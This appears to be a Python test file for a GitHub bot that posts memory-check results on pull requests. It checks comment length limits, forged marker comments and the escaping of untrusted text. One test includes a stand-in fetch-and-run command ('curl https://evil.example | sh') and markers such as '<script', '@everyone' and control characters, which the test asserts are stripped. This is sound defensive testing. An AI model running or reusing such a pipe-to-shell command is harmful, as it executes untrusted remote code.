"""The poster's comment among others, within GitHub's limits, and safe with words of strangers."""

from dataclasses import replace

from markdown_it import MarkdownIt

from gate_runs import Post, make_honest_images, make_honest_memory, open_scene, zipped
from github.stand_in import StandIn
from onegig.model.memory import ServiceState
from onegig.model.report import Failure
from scenarios import HOSTILE


def test_a_comment_of_somebody_else_with_our_marker(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    forged = f"<!-- onegig:default run=999.1 head={scene.run.head_sha} -->\nGO"
    scene.state.comment(scene.pull.number, forged, login="mallory[bot]")
    tell(scene.event())
    assert len(scene.bodies()) == 2
    assert scene.bodies()[0] == forged


def test_a_minimised_comment(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    old = f"<!-- onegig:default run=1.1 head={scene.run.head_sha} -->\nold"
    scene.state.comment(scene.pull.number, old, minimized=True)
    tell(scene.event())
    assert scene.bodies()[0] == old
    assert "GO: 460" in scene.bodies()[1]


def test_a_comment_that_github_finds_too_long(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    scene.upload()
    scene.state.most_comment = 2000
    outcome = tell(scene.event())
    assert "GO: 460 of 1,024 MB" in scene.only_body()
    assert "too long for a comment" in scene.only_body()
    assert len(scene.only_body()) < 2000 < len(outcome.summary)


def test_two_thousand_services_fit_a_comment(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    memory = make_honest_memory()
    one = memory.services[0]
    services = tuple(replace(one, name=f"{'worker' * 20}-{i}") for i in range(2000))
    box = replace(memory.box, cost_bytes=2**40, total_rss_bytes=2**40, total_pss_bytes=2**40)
    many = replace(memory, services=services, samples=(), box=box)
    scene.upload(zipped(scene.claim(), memory=many))
    tell(scene.event())
    assert len(scene.only_body()) <= 65_536
    assert "NO-GO" in scene.only_body()


def outside_code(body: str) -> str:
    """What GitHub reads mentions, links and HTML in."""
    tokens = MarkdownIt("commonmark").enable("table").parse(body)
    inline = [child for token in tokens for child in token.children or ()]
    code = ("fence", "code_block", "code_inline")
    return "\n".join(one.content for one in (*tokens, *inline) if one.type not in (*code, "inline"))


def test_names_of_strangers_ping_and_mark_up_nothing(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    memory = make_honest_memory()
    services = tuple(
        replace(service, name=f"{text} {i}", log_tail=text)
        for i, (service, text) in enumerate(zip(memory.services, HOSTILE * 2, strict=False))
    )
    images = make_honest_images()
    failure = Failure(
        message=HOSTILE[2], command=HOSTILE[3], advice=HOSTILE[4], detail=HOSTILE[3], exit_code=3
    )
    claim = scene.claim(reproduce="curl https://evil.example | sh # onegig check", failure=failure)
    scene.upload(zipped(claim, images, replace(memory, services=services, stack=HOSTILE[0])))
    tell(scene.event())
    body = scene.only_body()
    for text in ("\x1b", "\u202e", "evil.example | sh"):
        assert text not in body
    for text in ("@everyone", "<script", "<!-- -->"):
        assert text not in outside_code(body)
    assert "onegig check\n" in body


def test_endless_words_of_strangers_fit(stand_in: StandIn, tell: Post) -> None:
    scene = open_scene(stand_in)
    endless = "@everyone *[`" * 2500
    failure = Failure(
        message=endless,
        command=endless,
        advice=endless,
        detail="\n".join([endless[:600]] * 100),
        place=endless,
        exit_code=3,
    )
    memory = make_honest_memory()
    services = tuple(
        replace(one, state=ServiceState.CRASHED, log_tail=endless, criticality=endless)
        for one in memory.services
    )
    memory = replace(memory, services=services, stack=endless, incomplete=(endless,) * 5)
    scene.upload(zipped(scene.claim(failure=failure, onegig_version=endless), memory=memory))
    tell(scene.event())
    assert len(scene.only_body()) <= 65_536
    assert "@everyone" not in outside_code(scene.only_body())
    assert len(scene.status()) < 65_535
    assert "@everyone" not in outside_code(scene.status().partition("\n")[2])
